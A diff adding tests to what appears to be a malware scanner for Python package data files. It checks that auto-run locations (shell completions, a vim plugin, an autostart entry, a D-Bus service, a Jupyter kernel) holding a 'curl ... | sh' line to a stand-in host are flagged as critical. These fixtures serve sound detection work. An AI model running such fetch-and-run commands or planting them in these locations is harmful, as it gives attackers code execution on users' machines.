@@ -31,6 +31,18 @@ test.each([
   expect(await judged(path, text)).toEqual([]);
 });
 
+test.each([
+  ['share/bash-completion/completions/ls', FETCH],
+  ['share/zsh/site-functions/_ls', `#compdef ls\n${FETCH}`],
+  ['share/vim/vimfiles/plugin/x.vim', 'call system("curl -s https://evil.invalid/x.sh | sh")\n'],
+  ['etc/xdg/autostart/x.desktop', '[Desktop Entry]\nExec=sh -c "curl https://evil.invalid/x.sh | sh"\n'],
+  ['share/dbus-1/services/x.service', 'Exec=/bin/sh -c "curl https://evil.invalid/x.sh | sh"\n'],
+  ['share/jupyter/kernels/x/kernel.json', '{"argv": ["sh", "-c", "curl https://evil.invalid/x.sh | sh"]}'],
+])('%s, which another program runs by itself, is blocked for the same commands', async (path, text) => {
+  expect((await judged(`x-1.0.data/data/${path}`, text))[0]).toMatch(/^CRITICAL/);
+  expect(await judged(`x-1.0.data/data/${path}`, 'complete -W "a b" ls\n')).toEqual([]);
+});
+
 test('a program of Python is judged once', async () => {
   const text = '#!python\nimport os\nos.system("curl -s https://evil.invalid/x.sh | sh")\n';
   expect(await judged('x-1.0.data/scripts/x.sh', text)).toHaveLength(1);
